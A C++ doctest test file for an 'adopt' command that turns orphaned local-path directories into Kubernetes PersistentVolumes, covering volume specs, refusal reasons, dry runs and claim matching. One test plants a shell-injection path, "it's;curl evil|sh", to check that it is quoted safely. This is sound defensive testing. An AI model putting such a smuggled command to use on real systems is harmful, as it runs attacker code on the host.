// SPDX-License-Identifier: Apache-2.0
#include <doctest/doctest.h>

#include <functional>
#include <map>

#include "directory_bed.h"

using namespace lpp::testing;

namespace {

using nlohmann::json;

struct AdoptBed : DirectoryBed {
  Outcome adopt(const std::vector<std::string>& more = {}) {
    std::vector<std::string> all{"adopt", "--node", "n1", "--path", kOnDisk, "--claim", "web/data"};
    all.insert(all.end(), more.begin(), more.end());
    return run_command(all);
  }
  Outcome adopt_all(const std::vector<std::string>& more = {}) {
    std::vector<std::string> all{"adopt", "--node", "n1", "--all", "--from-records"};
    all.insert(all.end(), more.begin(), more.end());
    return run_command(all);
  }
};

ClaimBuilder web_claim() { return claim("data").ns("web").no_provisioner(); }

}  // namespace

TEST_CASE("adopt makes the volume as the record tells, for the claim, and keeps what is in it") {
  AdoptBed bed;
  bed.orphans = {DirectoryBed::orphan()};
  bed.orphans[0]["disk"] = "disk-7";
  const auto outcome = bed.adopt();
  CAPTURE(outcome.err);
  CHECK(outcome.code == 0);
  CHECK(outcome.err.empty());
  CHECK(outcome.out.find("make claim web/data with storageClassName: local-path and 5Gi") !=
        std::string::npos);
  REQUIRE(bed.made().size() == 1);
  const json made = bed.made()[0];
  CHECK(made["metadata"]["name"] == "pvc-1");
  CHECK_FALSE(made["metadata"].contains("finalizers"));
  CHECK(made["metadata"]["annotations"]["pv.kubernetes.io/provisioned-by"] == kProvisionerName);
  CHECK(made["metadata"]["annotations"]["local.path.provisioner/selected-node"] == "n1");
  CHECK(made["metadata"]["annotations"]["local.path.provisioner/disk"] == "disk-7");
  CHECK(made["spec"]["hostPath"] == json{{"path", kOnDisk}, {"type", "Directory"}});
  CHECK(made["spec"]["capacity"]["storage"] == "5Gi");
  CHECK(made["spec"]["accessModes"] == json{"ReadWriteOnce"});
  CHECK(made["spec"]["persistentVolumeReclaimPolicy"] == "Retain");
  CHECK(made["spec"]["storageClassName"] == "local-path");
  CHECK(made["spec"]["claimRef"] == json{{"apiVersion", "v1"},
                                         {"kind", "PersistentVolumeClaim"},
                                         {"namespace", "web"},
                                         {"name", "data"}});
  const auto& terms = made["spec"]["nodeAffinity"]["required"]["nodeSelectorTerms"];
  CHECK(terms[0]["matchExpressions"][0]["values"] == json{"n1"});
}

TEST_CASE("adopt of a directory that nobody knows of needs a size, and names the volume itself") {
  AdoptBed bed;
  SUBCASE("no size") {
    const auto outcome = bed.adopt();
    CHECK(outcome.code == 1);
    CHECK(outcome.out.find("say it with --size") != std::string::npos);
    CHECK(bed.writes().empty());
  }
  SUBCASE("with size and policy, from a daemon that may not be asked") {
    bed.orphans_status = 403;
    const auto outcome =
        bed.adopt({"--size", "3Gi", "--policy", "Delete", "--class", "local-path", "-o", "json"});
    CHECK(outcome.code == 0);
    CHECK(outcome.err.find("note: which directories are nobody's the provisioner knows") !=
          std::string::npos);
    const auto item = json::parse(outcome.out)["items"][0];
    CHECK(item["action"] == "adopted");
    CHECK(item["size"] == "3Gi");
    REQUIRE(bed.made().size() == 1);
    const std::string name = bed.made()[0]["metadata"]["name"];
    CHECK(name.starts_with("adopted-"));
    CHECK(item["volume"] == name);
    // The directory may go only after a second look.
    CHECK(bed.made()[0]["spec"]["persistentVolumeReclaimPolicy"] == "Retain");
    CHECK_FALSE(bed.made()[0]["metadata"].contains("finalizers"));
    REQUIRE(bed.writes().size() == 2);
    CHECK(bed.writes()[1].method == "PATCH");
    CHECK(json::parse(bed.writes()[1].body) ==
          json{{"metadata", {{"uid", "uid-made"}}},
               {"spec", {{"persistentVolumeReclaimPolicy", "Delete"}}}});
  }
}

TEST_CASE("adopt looks again once the volume is there, and lets nothing go that is another's too") {
  AdoptBed bed;
  bed.orphans = {DirectoryBed::orphan()};
  std::string why;
  SUBCASE("another volume has come there") {
    bed.after_create = [&](const json& made) {
      bed.volumes = {made, volume("pv-x").claim("web", "other").host_path(kOnDisk).json()};
    };
    why =
        "overlaps the directory /opt/a/pvc-1_web_data of volume pv-x (of claim web/other), "
        "which is or may be on node n1: delete one of them";
  }
  SUBCASE("nobody can look") {
    bed.after_create = [&](const json&) { bed.config = "{"; };
    why = "volume pvc-1 is made and retains the directory, but ";
  }
  const auto outcome = bed.adopt({"--policy", "Delete"});
  CHECK(outcome.code == 1);
  CHECK(outcome.out.find("failed") != std::string::npos);
  CAPTURE(outcome.out);
  CHECK(outcome.out.find(why) != std::string::npos);
  REQUIRE(bed.writes().size() == 1);  // no policy, and nothing is taken back
  CHECK(bed.made().at(0)["spec"]["persistentVolumeReclaimPolicy"] == "Retain");
}

TEST_CASE("adopt --dry-run says what would be made, and makes nothing") {
  AdoptBed bed;
  bed.orphans = {DirectoryBed::orphan()};
  const auto out = json::parse(bed.adopt({"--dry-run", "-o", "json"}).out);
  CHECK(out["dryRun"] == true);
  CHECK(out["items"][0]["action"] == "adopt");
  CHECK(out["items"][0]["volume"] == "pvc-1");
  CHECK(bed.writes().empty());
}

TEST_CASE("adopt takes class, access mode and size of a claim that waits") {
  AdoptBed bed;
  bed.classes = {storage_class("fast").parameter("volumeType", "local").json(),
                 storage_class("slow").json()};
  bed.claims = {
      web_claim().storage_class("fast").request("7Gi").access_modes({"ReadWriteOncePod"}).json()};
  const auto outcome = bed.adopt();
  CHECK(outcome.code == 0);
  CHECK(outcome.out.find("claim web/data is bound to it") != std::string::npos);
  REQUIRE(bed.made().size() == 1);
  const json spec = bed.made()[0]["spec"];
  CHECK(spec["local"]["path"] == kOnDisk);
  CHECK(spec["storageClassName"] == "fast");
  CHECK(spec["capacity"]["storage"] == "7Gi");
  CHECK(spec["accessModes"] == json{"ReadWriteOncePod"});
}

TEST_CASE("adopt tells the commands that set the limit which a class asks for") {
  AdoptBed bed;
  bed.classes = {storage_class().parameter("quota", "hard").json()};
  bed.claims = {web_claim().request("7Gi").json()};
  const auto outcome = bed.adopt();
  CHECK(outcome.code == 0);
  REQUIRE(bed.made().size() == 1);
  // It would hold only once that was done.
  const json meta = bed.made()[0]["metadata"];
  CHECK_FALSE(meta["annotations"].contains("local.path.provisioner/quota"));
  const std::string path = kOnDisk;
  const auto slash = path.rfind('/');
  CHECK(outcome.out.find("on node n1 only: local-path-provisioner node adopt --base " +
                         path.substr(0, slash) + " --path " + path.substr(slash + 1) +
                         " --size 7Gi, and then kubectl annotate pv " +
                         meta["name"].get<std::string>() + " local.path.provisioner/quota=hard") !=
        std::string::npos);
}

TEST_CASE("a volume whose directory is held to its size already says so, as one that was made") {
  constexpr auto kSize = std::int64_t{5} << 30U;
  struct Case {
    const char* what;
    std::int64_t limit;
    const char* quota;
    bool asks;
    bool held;
    std::vector<std::string> flags{};
  };
  const std::vector<Case> cases{
      {"held to the size", kSize, "hard", false, true},
      {"nobody says so, as an agent of an earlier version", 0, "hard", true, false},
      {"held to less than it is to have", kSize - 1, "hard", true, false},
      {"held, and is to have another size", kSize, "hard", true, false, {"--size", "6Gi"}},
      {"held, of a class that has no limits", kSize, "none", false, false}};
  for (const Case& one : cases) {
    CAPTURE(one.what);
    AdoptBed bed;
    bed.classes = {storage_class().parameter("quota", one.quota).json()};
    bed.orphans = {DirectoryBed::orphan()};
    if (one.limit > 0) bed.orphans[0]["limit"] = one.limit;
    const auto outcome = one.flags.empty() ? bed.adopt_all() : bed.adopt(one.flags);
    CAPTURE(outcome.out);
    CHECK(outcome.code == 0);
    CHECK((outcome.out.find("node adopt --base") != std::string::npos) == one.asks);
    REQUIRE(bed.made().size() == 1);
    const json notes = bed.made()[0]["metadata"]["annotations"];
    CHECK(notes.value("local.path.provisioner/quota", "") == (one.held ? "hard" : ""));
  }
}

TEST_CASE("what a tenant has put into a path is no command of the shell that it is pasted into") {
  AdoptBed bed;
  bed.classes = {storage_class().parameter("quota", "hard").json()};
  bed.orphans = {DirectoryBed::orphan()};
  bed.orphans[0]["path"] = "/opt/a/web/it's;curl evil|sh";
  const auto outcome = bed.adopt_all();
  CAPTURE(outcome.err);
  CHECK(outcome.code == 0);
  CAPTURE(outcome.out);
  CHECK(outcome.out.find(R"(--base /opt/a --path 'web/it'\''s;curl evil|sh' --size 5Gi)") !=
        std::string::npos);
}

TEST_CASE("a claim that has lost this very volume is told by its UID") {
  AdoptBed bed;
  bed.claims = {web_claim().volume("pvc-1").phase("Lost").json()};
  bed.orphans = {DirectoryBed::orphan()};
  bed.orphans[0]["uid"] = "uid-data";
  CHECK(bed.adopt().code == 0);
  REQUIRE(bed.made().size() == 1);
  CHECK(bed.made()[0]["metadata"]["name"] == "pvc-1");
  CHECK(bed.made()[0]["spec"]["claimRef"]["uid"] == "uid-data");
}

TEST_CASE("adopt refuses whatever it is not certain of, and says why") {
  struct Case {
    const char* why;
    std::function<void(AdoptBed&)> arrange;
    std::vector<std::string> flags{};
  };
  const auto other = [](const std::string& name) { return volume(name).claim("web", "other"); };
  const std::vector<Case> cases{
      {"is not registered", [](AdoptBed& bed) { bed.nodes = {node("n2").json()}; }},
      {"lies below no base path that the configuration has for node n1",
       [](AdoptBed& bed) {
         bed.config = R"({"nodePathMap": [{"node": "n2", "paths": ["/opt/a"]}]})";
       }},
      {"volume pvc-1 (of claim web/other) is there already",
       [&](AdoptBed& bed) { bed.volumes = {other("pvc-1").host_path("/else/where").json()}; }},
      {"overlaps the directory /opt/a/pvc-1_web_data of volume pv-x",
       [&](AdoptBed& bed) { bed.volumes = {other("pv-x").host_path(kOnDisk).node("n1").json()}; }},
      {"overlaps the directory /opt/a/pvc-1_web_data/in of volume pv-x",
       [&](AdoptBed& bed) {
         bed.volumes = {other("pv-x").local(std::string(kOnDisk) + "/in").node("n1").json()};
       }},
      {"of volume pv-x",  // no affinity: it may be on any node
       [&](AdoptBed& bed) { bed.volumes = {other("pv-x").host_path(kOnDisk).json()}; }},
      {"of volume by-others",
       [&](AdoptBed& bed) {
         bed.volumes = {other("by-others")
                            .host_path(kOnDisk)
                            .node("n1")
                            .annotation("pv.kubernetes.io/provisioned-by", "example.com/dirs")
                            .json()};
       }},
      {"of volume by-hand",
       [&](AdoptBed& bed) {
         bed.volumes = {other("by-hand")
                            .host_path(kOnDisk)
                            .node("n1")
                            .no_annotation("pv.kubernetes.io/provisioned-by")
                            .json()};
       }},
      {"has volume pv-x already",
       [&](AdoptBed& bed) {
         bed.orphans.clear();
         bed.claims = {web_claim().volume("pv-x").json()};
         bed.volumes = {other("pv-x").node("n2").json()};
       },
       {"--size", "1Gi"}},
      {"belongs to volume pvc-old already",
       [](AdoptBed& bed) { bed.claims = {web_claim().uid("1").volume("pvc-old").json()}; }},
      {"is being deleted",
       [](AdoptBed& bed) { bed.claims = {web_claim().uid("1").deleting().json()}; }},
      {"a new volume is being made for claim web/data",
       [](AdoptBed& bed) { bed.claims = {claim("data").ns("web").uid("1").node("n1").json()}; }},
      {"asks for 9Gi, more than 5Gi",
       [](AdoptBed& bed) { bed.claims = {web_claim().uid("1").request("9Gi").json()}; }},
      {"is of StorageClass \"local-path\", not fast",
       [](AdoptBed& bed) { bed.claims = {web_claim().uid("1").json()}; },
       {"--class", "fast"}},
      {"there is no StorageClass \"fast\"", [](AdoptBed&) {}, {"--class", "fast"}},
      {"say which with --class",
       [](AdoptBed& bed) { bed.classes.push_back(storage_class("fast").json()); }},
      {"access mode ReadWriteMany is not supported",
       [](AdoptBed& bed) {
         bed.claims = {web_claim().uid("1").access_modes({"ReadWriteMany"}).json()};
       }},
      {"volume pv-x waits for claim web/data already",
       [](AdoptBed& bed) {
         bed.volumes = {volume("pv-x").claim("web", "data", "").node("n2").json()};
       }},
      {"the record of /opt/a/pvc-1_web_data names claim web/data, not claim shop/data; if it is to "
       "have the directory all the same, say --other-claim",
       [](AdoptBed&) {},
       {"--claim", "shop/data"}},
      {"names claim web/data, not claim web/date",
       [](AdoptBed& bed) { bed.orphans = {DirectoryBed::orphan("OtherCluster")}; },
       {"--claim", "web/date"}},
      {"names an earlier claim web/data, of UID 1, and the one that is there has UID uid-data; if",
       [](AdoptBed& bed) { bed.claims = {web_claim().json()}; }},
      {"bears the UID of claim shop/lost, not of claim web/data; if",
       // Its claim is there, so it is nobody's by no list.
       [](AdoptBed& bed) {
         bed.orphans.clear();
         bed.claims = {claim("lost").ns("shop").uid("1").volume("pvc-1").phase("Lost").json()};
       },
       {"--size", "1Gi"}},
      {"overlaps /opt/a/pvc-1_web_data, which is on record of claim web/data; if it is to have",
       [](AdoptBed&) {},
       {"--path", "/opt/a/pvc-1_web_data/sub", "--size", "1Gi"}},
      {"is not whole: it is said",
       [](AdoptBed& bed) { bed.orphans = {DirectoryBed::orphan("Unfinished")}; }},
      {"not a size", [](AdoptBed&) {}, {"--size", "much"}},
      {"not a claim", [](AdoptBed&) {}, {"--claim", "web/Data_1"}},
      {"the provisioner's own records",
       [](AdoptBed&) {},
       {"--path", "/opt/a/.local-path-provisioner/gone.pvc-1"}},
      {"has a relative component", [](AdoptBed&) {}, {"--path", "/opt/a/../a/x"}},
      {"lies below no base path", [](AdoptBed&) {}, {"--path", "/opt/a"}},
  };
  for (const Case& one : cases) {
    CAPTURE(one.why);
    AdoptBed bed;
    bed.orphans = {DirectoryBed::orphan()};
    one.arrange(bed);
    const auto outcome = bed.adopt(one.flags);
    CAPTURE(outcome.out);
    CAPTURE(outcome.err);
    CHECK(outcome.code == 1);
    CHECK(outcome.out.find(one.why) != std::string::npos);
    CHECK(bed.writes().empty());
  }
}

TEST_CASE("adopt gives a directory to another claim than the one on record only when told so") {
  AdoptBed bed;
  bed.orphans = {DirectoryBed::orphan()};
  std::vector<std::string> flags{"--other-claim", "-o", "json"};
  std::string told;
  SUBCASE("of another name") {
    flags.insert(flags.end(), {"--claim", "shop/cart"});
    told = "its record names claim web/data";
  }
  SUBCASE("of that name, made anew") {
    bed.claims = {web_claim().json()};
    told = "its record names an earlier claim of that name, of UID 1";
  }
  SUBCASE("the directory of which bears its UID") {
    bed.orphans.clear();
    bed.claims = {claim("lost").ns("shop").uid("1").volume("pvc-1").phase("Lost").json()};
    flags.insert(flags.end(), {"--size", "5Gi"});
    told = "whose it was is not known";
  }
  SUBCASE("only to look") {
    flags.insert(flags.end(), {"--claim", "shop/cart", "--dry-run"});
    told = "its record names claim web/data";
  }
  const auto outcome = bed.adopt(flags);
  CAPTURE(outcome.out);
  CHECK(outcome.code == 0);
  CHECK(outcome.out.find(told) != std::string::npos);
}

TEST_CASE("in a rebuilt cluster the claim's name is compared, and the other cluster is told") {
  AdoptBed bed;
  bed.claims = {web_claim().json()};  // its UID is another one than on record
  bed.orphans = {DirectoryBed::orphan("OtherCluster")};
  bed.orphans[0]["cluster"] = "cluster-1";
  const std::string told =
      "its record is of another cluster (cluster-1), so the UID of the claim was not compared";
  bool all = false;
  SUBCASE("one directory") {}
  SUBCASE("a whole node") { all = true; }
  const auto look = all ? bed.adopt_all({"--dry-run"}) : bed.adopt({"--dry-run"});
  CHECK(look.code == 0);
  CHECK(look.out.find(told) != std::string::npos);
  CHECK(look.out.find("WHY") != std::string::npos);
  CHECK(look.out.find("OtherCluster") != std::string::npos);
  const auto done = all ? bed.adopt_all({"-o", "json"}) : bed.adopt({"-o", "json"});
  CHECK(done.code == 0);
  const json item = json::parse(done.out)["items"][0];
  CHECK(item["why"] == "OtherCluster");
  CHECK(item["cluster"] == "cluster-1");
  CHECK(item["action"] == "adopted");
  CHECK(item["message"].get<std::string>().find(told) != std::string::npos);
}

TEST_CASE("adopt does nothing without all that it needs to know") {
  AdoptBed bed;
  for (const char* part : {"/nodes?", "/persistentvolumes?", "/persistentvolumeclaims?",
                           "labelSelector", "/configmaps/"}) {
    CAPTURE(part);
    AdoptBed blind;
    blind.transport->on("GET", part).always([](const auto&) {
      return DirectoryBed::failure(403, "Forbidden");
    });
    CHECK(blind.adopt({"--size", "1Gi"}).code == 1);
    CHECK(blind.writes().empty());
  }
  std::string why;
  SUBCASE("a volume") {
    bed.volumes = {{{"metadata", {{"name", "odd"}}}, {"spec", 7}}};
    why = "volume odd cannot be read";
  }
  SUBCASE("a helper pod") {
    bed.helper_pods = {pod("odd").json()};
    why = "helper pod odd cannot be read: nobody knows on which directory it works";
  }
  const auto outcome = bed.adopt({"--size", "1Gi"});
  CHECK(outcome.code == 1);
  CHECK(outcome.err.find(why) != std::string::npos);
  CHECK(bed.writes().empty());
}

TEST_CASE(
    "a directory of another node, or a volume that shows a whole base path, is in nobody's way") {
  AdoptBed bed;
  bed.orphans = {DirectoryBed::orphan()};
  bed.volumes = {
      volume("elsewhere").claim("web", "other").host_path(kOnDisk).node("n2").json(),
      volume("backup").host_path("/opt/a").no_annotation("pv.kubernetes.io/provisioned-by").json()};
  CHECK(bed.adopt().code == 0);
  CHECK(bed.made().size() == 1);
}

TEST_CASE("adopt --all --from-records gives each directory to the claim that its record names") {
  AdoptBed bed;
  json twice = DirectoryBed::orphan();
  twice["path"] = "/opt/b/pvc-2_web_data";  // of an earlier claim of that name
  twice["volume"] = "pvc-2";
  json no_claim = DirectoryBed::orphan();
  no_claim["path"] = "/opt/a/pvc-3";
  no_claim["volume"] = "pvc-3";
  no_claim["claim"] = "";
  json elsewhere = DirectoryBed::orphan();
  elsewhere["node"] = "n2";
  json foreign = DirectoryBed::orphan("OtherCluster");
  foreign["path"] = "/opt/a/pvc-4_web_logs";
  foreign["volume"] = "pvc-4";
  foreign["claim"] = "web/logs";
  json unknown = DirectoryBed::orphan("NoRecord");
  unknown["path"] = "/opt/a/stuff";
  bed.orphans = {foreign, unknown, twice, no_claim, elsewhere, DirectoryBed::orphan()};
  std::vector<std::string> flags{"-o", "json"};
  SUBCASE("for good") {}
  SUBCASE("to look") { flags.emplace_back("--dry-run"); }
  const auto outcome = bed.adopt_all(flags);
  CHECK(outcome.code == 1);  // not all could be
  std::map<std::string, std::string> actions;
  const json out = json::parse(outcome.out);
  for (const auto& item : out["items"]) actions[item["path"]] = item["action"];
  const bool looks = flags.size() > 2;
  const std::string done = looks ? "adopt" : "adopted";
  CHECK(actions.size() == 5);
  CHECK(actions[kOnDisk] == done);
  CHECK(actions["/opt/a/pvc-4_web_logs"] == done);
  CHECK(actions["/opt/b/pvc-2_web_data"] == "refused");
  CHECK(actions["/opt/a/pvc-3"] == "refused");
  CHECK(actions["/opt/a/stuff"] == "passed over");
  CHECK(bed.made().size() == (looks ? 0 : 2));
}

TEST_CASE("adopt --all ends well with nothing to do, and ill when it cannot ask or create") {
  AdoptBed bed;
  const auto nothing = bed.adopt_all();
  CHECK(nothing.code == 0);
  CHECK(nothing.err.find("has its volume or its claim") != std::string::npos);
  AdoptBed silent;
  silent.orphans_status = 403;
  CHECK(silent.adopt_all().code == 1);
  AdoptBed full;
  full.orphans = {DirectoryBed::orphan()};
  full.transport->on("POST", "/persistentvolumes").always([](const auto&) {
    return DirectoryBed::failure(403, "Forbidden");
  });
  const auto outcome = full.adopt_all({"-o", "json"});
  CHECK(outcome.code == 1);
  CHECK(json::parse(outcome.out)["items"][0]["action"] == "failed");
}

TEST_CASE("adopt says which flags it needs") {
  for (const auto& [flags, why] : std::vector<std::pair<std::vector<std::string>, std::string>>{
           {{"--path", "/opt/a/x"}, "--node NAME"},
           {{"--node", "n1"}, "--path DIR"},
           {{"--node", "n1", "--path", "/opt/a/x"}, "--claim NAMESPACE/NAME"},
           {{"--node", "n1", "--all"}, "--from-records"},
           {{"--node", "n1", "--from-records", "--path", "/x/y", "--claim", "a/b"}, "--all"},
           {{"--node", "n1", "--all", "--from-records", "--size", "1Gi"}, "from the records"},
           {{"--node", "n1", "--all", "--from-records", "--other-claim"}, "from the records"}}) {
    AdoptBed bed;
    std::vector<std::string> all{"adopt"};
    all.insert(all.end(), flags.begin(), flags.end());
    const auto outcome = bed.run_command(all);
    CAPTURE(outcome.err);
    CHECK(outcome.code == 2);
    CHECK(outcome.err.find(why) != std::string::npos);
    CHECK(bed.transport->requests().empty());
  }
}
